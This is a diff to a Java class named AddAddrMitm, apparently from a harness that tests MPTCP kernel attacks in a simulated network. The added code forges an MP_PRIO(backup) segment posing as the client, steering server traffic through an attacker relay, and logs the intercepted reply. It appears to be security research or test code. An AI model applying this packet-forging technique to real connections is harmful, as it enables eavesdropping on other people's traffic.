@@ -106,6 +106,7 @@ public final class AddAddrMitm implements KernelAttack {
         return delta.getOrDefault("MPTcpExtAddAddr", 0L) >= 1;
     }
 
+    static final byte[] REPLY = "reply from the server\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
     static final byte[] SECOND = "second message from the client\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
 
     /**
@@ -144,6 +145,22 @@ public final class AddAddrMitm implements KernelAttack {
             ctx.note("relay: " + relay.relayed() + " segments relayed; client bytes that crossed the attacker: "
                     + EavesdropHandshake.printable(seen));
             ctx.note("server application read (whole stream): " + EavesdropHandshake.printable(ctx.server().received()));
+
+            // The other direction: steer the server off the original subflow too, then let it answer.
+            now = ctx.fresh();
+            tap.send(Topology.SERVER_MAC, Forge.inWindow(now, true, TcpSegment.ACK,
+                    new MptcpOption.MpPrio(true, OptionalInt.empty()), Bytes.empty()));
+            ctx.note("attacker: sent MP_PRIO(backup) as the client on the original subflow");
+            int clientMark = ctx.client().eventCount();
+            ctx.server().send(REPLY);
+            ctx.client().awaitFrom(clientMark, e -> "data".equals(e.path("event").asText()), 2_000);
+            try {
+                Thread.sleep(100);
+            } catch (InterruptedException e) {
+                Thread.currentThread().interrupt();
+            }
+            ctx.note("relay: server bytes that crossed the attacker: " + EavesdropHandshake.printable(relay.serverPayload()));
+            ctx.note("client application read (whole stream): " + EavesdropHandshake.printable(ctx.client().received()));
         }
     }
 
